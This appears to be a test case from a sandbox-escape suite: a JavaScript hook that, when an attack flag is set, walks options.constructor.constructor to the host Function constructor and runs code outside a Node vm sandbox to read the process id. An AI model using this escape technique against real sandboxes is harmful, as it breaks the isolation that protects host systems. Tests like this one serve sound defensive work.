// Walks from options over its constructor to the constructor of all functions.
// Class: host objects
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const HostFunction = options.constructor.constructor;
  options.responseData[0].id = 'ESCAPED:' + HostFunction('return process.pid')();
  return options.responseData;
}
